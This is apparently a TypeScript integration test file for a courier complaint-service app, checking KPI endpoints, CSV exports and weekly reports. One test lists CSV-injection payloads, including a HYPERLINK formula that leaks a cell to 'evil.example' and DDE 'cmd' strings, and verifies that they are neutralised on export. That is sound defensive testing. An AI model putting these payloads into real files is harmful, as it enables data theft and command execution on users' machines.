import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import pino from 'pino';
import request from 'supertest';
import { reportCommand } from '../../src/cli/report-command';
import { loadConfig } from '../../src/config';
import { startParcelCare, type RunningParcelCare } from '../../src/index';
import { parse } from 'csv-parse/sync';
import { loadWeek } from '../contract/metrics.contract';
import { loadProactiveWeek } from '../contract/proactive-metrics.contract';
import { sampleTicket } from '../contract/store-harness';
import { TestClock } from '../support/test-clock';

const SUPERVISOR = ['carol', 'carol-pass-1'] as const;

describe('supervisor KPIs over HTTP, CSV export and the weekly report (real server, hand-computed week)', () => {
  let dataDir: string;
  let app: RunningParcelCare;
  let clock: TestClock;
  const env = () => ({
    PORT: '0',
    HOST: '127.0.0.1',
    DATA_DIR: dataDir,
    DEMO_DATA: 'false',
    AGENT_USERS: `${SUPERVISOR.join(':')}:supervisor`,
    COURIER_NAME: '顺达快递',
  });

  beforeEach(async () => {
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'parcelcare-metrics-'));
    clock = new TestClock(new Date('2026-11-23T02:00:00Z'));
    app = await startParcelCare(loadConfig(env()), pino({ level: 'silent' }), clock);
    await loadWeek(app.store);
    await loadProactiveWeek(app.store);
  });
  afterEach(async () => {
    await app.close();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  const get = (url: string) => request(app.url).get(url).auth(SUPERVISOR[0], SUPERVISOR[1]);

  it('answers /api/metrics for local days, with the KPIs computed by hand', async () => {
    const res = await get('/api/metrics?from=2026-11-16&to=2026-11-22').expect(200);
    expect(res.body).toMatchObject({
      filter: { from: '2026-11-15T16:00:00.000Z', to: '2026-11-22T16:00:00.000Z' },
      tickets: 5,
      timelyHandlingRate: 0.6667,
      csat: 0.5,
      nps: 0,
      counts: { recommendations: 2, promoters: 1, detractors: 1 },
      repeatComplaintRate: 0.5,
      firstContactResolution: 0.6667,
      botContainment: 0.2,
      firstResponseMinutes: { median: 10 },
      slaBreaches: { tickets: 3 },
      backlog: { high: 1, medium: 2, low: 0 },
      // The proactive week (test/contract/proactive-metrics.contract.ts): deflection 2 of 4, lower is better.
      proactive: {
        noticeRate: 0.4,
        noticeMinutes: { p50: 4, p95: 30 },
        claimsWithin15Rate: 0.5,
        askedAfterNoticeRate: 0.5,
        counts: { trackingQuestions: 7, questionsOnAnomalies: 4, questionsAfterNotice: 2, notifiedNeverAsked: 1 },
      },
    });
    expect(res.body.proactive.daily.map((d: { period: string }) => d.period)).toEqual([
      '2026-11-16',
      '2026-11-17',
      '2026-11-18',
      '2026-11-19',
      '2026-11-20',
      '2026-11-21',
      '2026-11-22',
    ]);
    expect(res.body.proactive.daily[1]).toMatchObject({ period: '2026-11-17', askedAfterNoticeRate: 0.5 });
    expect(res.body.proactive.weekly).toEqual([
      { period: '2026-11-16', ...res.body.proactive, daily: undefined, weekly: undefined },
    ]);
    const sms = await get('/api/metrics?from=2026-11-16&to=2026-11-22&channel=sms').expect(200);
    // T2 came by SMS: its customer answered 2 (a detractor).
    expect(sms.body).toMatchObject({ tickets: 1, csat: 0, nps: -100 });
  });

  it('refuses bad filters with the reason, and anyone without credentials', async () => {
    await request(app.url).get('/api/metrics').expect(401);
    await request(app.url).get('/dashboard').expect(401);
    await request(app.url).get('/api/metrics/tickets.csv').auth('carol', 'nope').expect(401);
    expect((await get('/api/metrics?from=yesterday').expect(400)).body.error).toMatch(/not a date/);
    expect((await get('/api/metrics?from=2026-11-20&to=2026-11-10').expect(400)).body.error).toMatch(/before/);
    expect((await get('/api/metrics?from=2020-01-01&to=2026-11-10').expect(400)).body.error).toMatch(/366 days/);
    expect((await get('/api/metrics?channel=fax').expect(400)).body.error).toMatch(/^channel/);
    expect((await get('/api/metrics/tickets.csv?category=broken').expect(400)).body.error).toMatch(/^category/);
  });

  it.each([
    ['from=2026-13-45', 'from: "2026-13-45" is not a date (YYYY-MM-DD) or an ISO time'],
    ['from=2026-02-30', 'from: "2026-02-30" is not a date (YYYY-MM-DD) or an ISO time'],
    ['to=2026-02-29', 'to: "2026-02-29" is not a date (YYYY-MM-DD) or an ISO time'],
    ['to=2026-04-31T10:00:00Z', 'to: "2026-04-31T10:00:00Z" is not a date (YYYY-MM-DD) or an ISO time'],
    ['from=2026-11-01T25:00:00Z', 'from: "2026-11-01T25:00:00Z" is not a date (YYYY-MM-DD) or an ISO time'],
    ['from=0000-01-01', 'from: "0000-01-01" is not a date (YYYY-MM-DD) or an ISO time'],
    ['from=2026-11-01&from=2026-11-02', 'from: give it once, as a single value'],
    ['channel[]=sms', 'channel[]: not a known parameter'],
    ['limit=5', 'limit: not a known parameter'],
  ])('answers ?%s with 400 naming the parameter, on the KPIs and the CSV alike', async (query, error) => {
    expect((await get(`/api/metrics?${query}`).expect(400)).body).toEqual({ error });
    expect((await get(`/api/metrics/tickets.csv?${query}`).expect(400)).body).toEqual({ error });
  });

  it('exports customer text that looks like a formula as plain text cells (OWASP CSV injection rule)', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"点我查看")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    for (const [i, description] of hostile.entries())
      await app.store.tickets.create(
        sampleTicket({
          createdAt: `2026-11-18T0${i}:30:00.000Z`,
          customerId: `hostile-${i}`,
          description,
          station: i === 0 ? '=cmd' : '站',
        }),
      );
    const res = await get('/api/metrics/tickets.csv?from=2026-11-16&to=2026-11-22').expect(200);
    // Read the cells back as a spreadsheet does: unquote, then any cell starting with = + - @ is a formula.
    const rows = parse(res.text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const descriptions = rows.map((r) => r.description);
    for (const text of hostile) expect(descriptions).toContain(`'${text}`);
    expect(rows.map((r) => r.station)).toContain("'=cmd");
    // Ordinary text and ISO times are untouched.
    expect(rows[0]?.createdAt).toMatch(/^2026-11-\d\dT/);
  });

  it('exports the range’s tickets as CSV, one row each, with a header', async () => {
    const res = await get('/api/metrics/tickets.csv?from=2026-11-16&to=2026-11-22&category=lost').expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="?tickets-2026-11-16-2026-11-22.csv"?$/);
    const lines = res.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toMatch(/^number,createdAt,channel,category,priority,status/);
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatch(/^C-20261117-\d{4},2026-11-17T02:00:00.000Z,sms,lost,high,resolved,/);
    // The satisfaction answer and the 0–10 recommendation answer, before the customer's words.
    expect(lines[0]).toMatch(/,satisfied,score,recommendation,description$/);
    expect(lines[1]).toContain(',no,2,2,');
    const all = await get('/api/metrics/tickets.csv?from=2026-11-16&to=2026-11-22').expect(200);
    expect(all.text.trim().split('\n')).toHaveLength(6);
  });

  it('exports the proactive KPIs as CSV per day or week with the range’s total, the deflection among them', async () => {
    const daily = await get('/api/metrics/proactive.csv?from=2026-11-16&to=2026-11-22').expect(200);
    expect(daily.headers['content-type']).toMatch(/^text\/csv/);
    expect(daily.headers['content-disposition']).toMatch(/filename="?proactive-day-2026-11-16-2026-11-22.csv"?$/);
    expect(daily.text.startsWith('\uFEFF')).toBe(true);
    const rows = parse(daily.text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.period)).toEqual([
      '2026-11-16',
      '2026-11-17',
      '2026-11-18',
      '2026-11-19',
      '2026-11-20',
      '2026-11-21',
      '2026-11-22',
      'total',
    ]);
    const total = {
      period: 'total',
      anomalies: '5',
      notified: '2',
      unreachable: '1',
      waiting: '2',
      noticeRate: '0.4',
      noticeMinutesP50: '4',
      noticeMinutesP95: '30',
      level1: '2',
      claimsWithin15: '1',
      claimsWithin15Rate: '0.5',
      trackingQuestions: '7',
      questionsOnAnomalies: '4',
      questionsAfterNotice: '2',
      askedAfterNoticeRate: '0.5',
      notifiedNeverAsked: '1',
    };
    expect(rows.at(-1)).toEqual(total);
    // 17 November: X1 notified after 4 minutes, asked about before and after its notice; nothing to divide for claims.
    expect(rows[1]).toEqual({
      ...total,
      period: '2026-11-17',
      anomalies: '1',
      notified: '1',
      unreachable: '0',
      waiting: '0',
      noticeRate: '1',
      noticeMinutesP50: '4',
      noticeMinutesP95: '4',
      level1: '0',
      claimsWithin15: '0',
      claimsWithin15Rate: '',
      trackingQuestions: '2',
      questionsOnAnomalies: '2',
      questionsAfterNotice: '1',
      notifiedNeverAsked: '0',
    });
    const weekly = await get('/api/metrics/proactive.csv?from=2026-11-16&to=2026-11-22&per=week').expect(200);
    expect(parse(weekly.text.replace(/^\uFEFF/, ''), { columns: true })).toEqual([
      { ...total, period: '2026-11-16' },
      total,
    ]);
    expect((await get('/api/metrics/proactive.csv?per=month').expect(400)).body.error).toMatch(/^per:/);
    expect((await get('/api/metrics/proactive.csv?from=2026-02-30').expect(400)).body.error).toMatch(/^from:/);
    await request(app.url).get('/api/metrics/proactive.csv').expect(401);
  });

  it('writes the weekly report against the week before, in Markdown and HTML', async () => {
    await app.close();
    const config = loadConfig(env());
    const markdown = path.join(dataDir, 'reports', 'week.md');
    const html = path.join(dataDir, 'reports', 'week.html');
    const stdout = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
    const stderr = jest.spyOn(process.stderr, 'write').mockImplementation(() => true);
    try {
      expect(await reportCommand(['--week', '--out', markdown], config, clock)).toBe(0);
      expect(await reportCommand(['--week', '--out', html], config, clock)).toBe(0);
      expect(await reportCommand([], config, clock)).toBe(2);
      expect(stderr).toHaveBeenCalledWith(expect.stringContaining('--week'));
    } finally {
      stdout.mockRestore();
      stderr.mockRestore();
      app = await startParcelCare(config, pino({ level: 'silent' }), clock);
    }
    const report = fs.readFileSync(markdown, 'utf8');
    expect(report).toContain('# 顺达快递 — complaint service report, week 2026-11-16 – 2026-11-22');
    // The week before holds T5 (open, past its deadline) and one conversation the bot settled.
    expect(report).toContain('| Complaints | 5 | 1 | +4 |');
    expect(report).toContain('| Bot containment | 20.0% | 100.0% | -80 pp |');
    expect(report).toContain('| Tickets that missed a deadline | 3 | 1 | +2 |');
    expect(report).toContain('| CSAT (satisfied / surveyed) | 50.0% | — | — |');
    expect(report).toContain('| NPS (% promoters − % detractors) | 0 | — | — |');
    expect(report).toContain('| Tracking questions about parcels with an open anomaly | 4 | 0 | +4 |');
    expect(report).toContain('| Deflection: of those, asked after the notice (lower is better) | 50.0% | — | — |');
    expect(report).toContain('| Anomalies notified and never asked about | 1 | 0 | +1 |');
    expect(report).toContain('- **Stations:** 北京转运中心 (2), 上海浦东站 (1)');
    expect(report).toMatch(
      /\| C-20261121-\d{4} \| medium \| fee \| bob \| 2026-11-21 10:30 \| 2026-11-22 10:00 \| not yet \|/,
    );
    const page = fs.readFileSync(html, 'utf8');
    expect(page).toMatch(/^<!doctype html>/);
    expect(page).toContain('<h2>Tickets that missed a deadline (3)</h2>');
  });
});
